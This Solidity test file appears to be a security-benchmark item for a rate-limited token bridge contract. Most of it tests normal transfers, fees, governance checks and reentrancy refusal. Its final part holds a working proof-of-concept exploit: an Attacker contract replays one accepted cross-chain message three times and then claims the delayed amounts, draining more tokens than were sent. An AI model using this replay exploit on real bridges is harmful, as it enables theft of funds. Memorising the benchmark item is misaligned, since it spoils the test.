// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;
pragma abicoder v2;

import "@openzeppelin/contracts@3.4.2-solc-0.7/token/ERC20/ERC20.sol";
import "./BridgeLimits.sol";

// assay-canary-db33307f-990d-4690-8e41-da879404db0b

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Token is ERC20("Token", "TOK") {
    address private maker = msg.sender;

    function mint(address _to, uint256 _amount) external {
        require(msg.sender == maker, "!maker");
        _mint(_to, _amount);
    }
}

contract Inbox is IInbox {
    address private maker = msg.sender;
    mapping(bytes32 => bool) public override accepted;

    function accept(bytes32 _id) external {
        require(msg.sender == maker, "!maker");
        accepted[_id] = true;
    }
}

// a token that tries calls of the bridge, once, when it moves, and counts those that the lock refuses
contract Bell is ERC20("Bell", "BELL") {
    address private bridge;
    bytes[] private calls;
    uint256 public refused;

    constructor(address _bridge) {
        bridge = _bridge;
        _mint(msg.sender, 1e18);
        _mint(address(this), 1e18);
        _approve(msg.sender, bridge, 1e18);
        _approve(address(this), bridge, 1e18);
    }

    function add(bytes calldata _data) external {
        calls.push(_data);
    }

    function _beforeTokenTransfer(
        address,
        address,
        uint256
    ) internal override {
        bytes[] memory tries = calls;
        delete calls;
        bytes memory lock = abi.encodeWithSignature("Error(string)", "ReentrancyGuard: reentrant call");
        for (uint256 i = 0; i < tries.length; i++) {
            (bool ok, bytes memory why) = bridge.call(tries[i]);
            if (!ok && keccak256(why) == keccak256(lock)) refused++;
        }
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);
    address private constant REMOTE = address(0x4e307e);
    uint256 private constant CHAIN = 10;

    Token public token;
    Inbox private inbox;
    BridgeLimits private bridge;
    Attacker private mallory;

    // the limit of the day is used up when mallory's transfer arrives
    function setUp() public {
        vm.warp(1_800_000_000);
        token = new Token();
        inbox = new Inbox();
        bridge = open();
        send(ANA, 100_000e18);
        vm.warp(block.timestamp + 1 days);
        send(ANA, 100_000e18);
        vm.warp(block.timestamp + 1 days);
        send(BEN, 100_000e18);
        BridgeLimits.Message memory first = message(1, BEN, 100_000e18);
        inbox.accept(bridge.idOf(first));
        bridge.deliver(first);
        BridgeLimits.Message memory second = message(2, address(0), 60_000e18);
        mallory = new Attacker(bridge);
        second.to = address(mallory);
        inbox.accept(bridge.idOf(second));
        mallory.note(second);
    }

    function open() internal returns (BridgeLimits made) {
        made = new BridgeLimits(inbox, address(this), BEN, CAT);
        made.setLimit(token, 100_000e18, uint256(100_000e18) / 1 days + 1);
        made.setRoute(CHAIN, REMOTE);
    }

    function message(
        uint256 _nonce,
        address _to,
        uint256 _amount
    ) internal view returns (BridgeLimits.Message memory) {
        return BridgeLimits.Message(CHAIN, REMOTE, _nonce, token, _to, _amount);
    }

    function send(address _who, uint256 _amount) internal {
        token.mint(_who, _amount);
        vm.startPrank(_who);
        token.approve(address(bridge), _amount);
        bridge.send(CHAIN, token, _who, _amount);
        vm.stopPrank();
    }

    function test_Regular() public {
        bridge = open();
        bridge.setFee(50);
        send(ANA, 80_000e18);
        require(bridge.locked(token) == 79_600e18 && bridge.fees(token) == 400e18, "half a per cent");
        bridge.collect(token);
        require(token.balanceOf(CAT) == 400e18 && bridge.nonce() == 1, "fees");
        vm.warp(block.timestamp + 1 days);
        send(ANA, 80_000e18);

        uint256 before = token.balanceOf(BEN);
        BridgeLimits.Message memory one = message(7, BEN, 70_000e18);
        BridgeLimits.Message memory two = message(8, BEN, 50_000e18);
        inbox.accept(bridge.idOf(one));
        inbox.accept(bridge.idOf(two));
        bridge.deliver(one);
        require(token.balanceOf(BEN) == before + 70_000e18, "at once");
        bridge.deliver(two);
        require(token.balanceOf(BEN) == before + 70_000e18 && bridge.delayed(token, BEN) == 50_000e18, "noted");
        (uint256 leaving, uint256 arriving) = bridge.room(token);
        require(leaving == 20_400e18 && arriving == 30_000e18, "room");
        (leaving, arriving) = bridge.waits(token, 20_400e18);
        require(leaving == 0 && arriving == 0 && bridge.claimable(token, BEN) == 30_000e18, "no wait");
        (leaving, arriving) = bridge.waits(token, 100_000e18);
        require(leaving > 18 hours && arriving > 16 hours && arriving < 17 hours, "most of a day");
        require(bridge.claim(token, BEN) == 30_000e18, "as much as there is room for");
        vm.warp(block.timestamp + 1 days);
        require(bridge.claim(token, BEN) == 20_000e18 && bridge.delayed(token, BEN) == 0, "the rest");
        require(token.balanceOf(BEN) == before + 120_000e18 && bridge.locked(token) == 39_200e18, "all");

        bridge.setFrozen(bytes32(uint256(1)), true);
        bridge.setLimit(token, 10e18, 1);
        (, arriving) = bridge.room(token);
        require(arriving == 10e18, "less room");
        bridge.setTreasury(ANA);
        bridge.pause();
        bridge.unpause();
        bridge.setGuardian(ANA);
        bridge.offerGovernance(ANA);
        vm.prank(ANA);
        bridge.acceptGovernance();
        require(bridge.governance() == ANA, "governance");
    }

    function test_RefusesStrangers() public {
        vm.startPrank(ANA);
        vm.expectRevert("!governance");
        bridge.setTreasury(ANA);
        vm.expectRevert("!governance");
        bridge.setFee(0);
        vm.expectRevert("!governance");
        bridge.setRoute(CHAIN, ANA);
        vm.expectRevert("!governance");
        bridge.setLimit(token, 1, 1);
        vm.expectRevert("!governance");
        bridge.setGuardian(ANA);
        vm.expectRevert("!governance");
        bridge.offerGovernance(ANA);
        vm.expectRevert("!pending");
        bridge.acceptGovernance();
        vm.expectRevert("!guardian");
        bridge.pause();
        vm.expectRevert("!guardian");
        bridge.setFrozen(bytes32(0), true);
        vm.stopPrank();
        vm.prank(BEN);
        bridge.pause();
        vm.prank(BEN);
        vm.expectRevert("!governance");
        bridge.unpause();
        vm.expectRevert("Pausable: paused");
        bridge.send(CHAIN, token, ANA, 1);
        vm.expectRevert("Pausable: paused");
        bridge.deliver(message(3, ANA, 1));
        vm.expectRevert("Pausable: paused");
        bridge.claim(token, ANA);
    }

    function test_RefusesSettings() public {
        vm.expectRevert("!inbox");
        new BridgeLimits(IInbox(address(0)), ANA, ANA, ANA);
        vm.expectRevert("!governance");
        new BridgeLimits(inbox, address(0), ANA, ANA);
        vm.expectRevert("!treasury");
        new BridgeLimits(inbox, ANA, ANA, address(0));
        vm.expectRevert("!treasury");
        bridge.setTreasury(address(0));
        vm.expectRevert("!fee");
        bridge.setFee(101);
        uint256 here = bridge.chainId();
        vm.expectRevert("!chain");
        bridge.setRoute(here, REMOTE);
        vm.expectRevert("!capacity");
        bridge.setLimit(token, 0, 1);
    }

    function test_RefusesSending() public {
        token.mint(ANA, 200_000e18);
        vm.startPrank(ANA);
        token.approve(address(bridge), 200_000e18);
        vm.expectRevert("!route");
        bridge.send(CHAIN + 1, token, ANA, 1e18);
        vm.expectRevert("!to");
        bridge.send(CHAIN, token, address(0), 1e18);
        vm.expectRevert("!amount");
        bridge.send(CHAIN, token, ANA, 0);
        vm.expectRevert("!limit");
        bridge.send(CHAIN, token, ANA, 1);
        vm.stopPrank();
    }

    function test_RefusesMessages() public {
        BridgeLimits.Message memory made = message(3, ANA, 1e18);
        vm.expectRevert("!accepted");
        bridge.deliver(made);
        made.remote = ANA;
        inbox.accept(bridge.idOf(made));
        vm.expectRevert("!route");
        bridge.deliver(made);
        made.remote = address(0);
        made.from_chain = CHAIN + 1;
        inbox.accept(bridge.idOf(made));
        vm.expectRevert("!remote");
        bridge.deliver(made);
        vm.expectRevert("!status");
        bridge.deliver(message(1, BEN, 100_000e18));
        made = message(4, ANA, 1e18);
        bytes32 id = bridge.idOf(made);
        inbox.accept(id);
        bridge.setFrozen(id, true);
        vm.expectRevert("!frozen");
        bridge.deliver(made);
        vm.expectRevert("!amount");
        bridge.claim(token, ANA);
        bridge.setLimit(token, 900_000e18, 900_000e18);
        vm.warp(block.timestamp + 1);
        made = message(5, ANA, 200_001e18);
        inbox.accept(bridge.idOf(made));
        vm.expectRevert("!locked");
        bridge.deliver(made);
    }

    function test_RefusesReentry() public {
        bridge.deliver(message(2, address(mallory), 60_000e18));
        vm.warp(block.timestamp + 1 days);
        BridgeLimits.Message memory made = message(3, ANA, 1e18);
        inbox.accept(bridge.idOf(made));
        Bell bell = new Bell(address(bridge));
        bridge.setLimit(bell, 2e18, 1);
        bell.add(abi.encodeWithSelector(bridge.collect.selector, token));
        bell.add(abi.encodeWithSelector(bridge.send.selector, CHAIN, bell, ANA, 1e18));
        bell.add(abi.encodeWithSelector(bridge.deliver.selector, made));
        bell.add(abi.encodeWithSelector(bridge.claim.selector, token, mallory));
        bridge.send(CHAIN, bell, ANA, 1e18);
        require(bell.refused() == 4, "entered again");
    }

    function exploit() public {
        mallory.deliver();
        vm.warp(block.timestamp + 1 days);
        mallory.claim(token);
        vm.warp(block.timestamp + 1 days);
        mallory.claim(token);
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 150_000e18, "nothing was gained");
    }

    function target() public view returns (address) {
        return address(bridge);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    BridgeLimits private bridge;
    BridgeLimits.Message private message;

    constructor(BridgeLimits _bridge) {
        bridge = _bridge;
    }

    function note(BridgeLimits.Message calldata _message) external {
        require(_message.to == address(this), "!to");
        message = _message;
    }

    function deliver() external {
        for (uint256 i = 0; i < 3; i++) bridge.deliver(message);
    }

    function claim(IERC20 _token) external {
        bridge.claim(_token, address(this));
    }
}
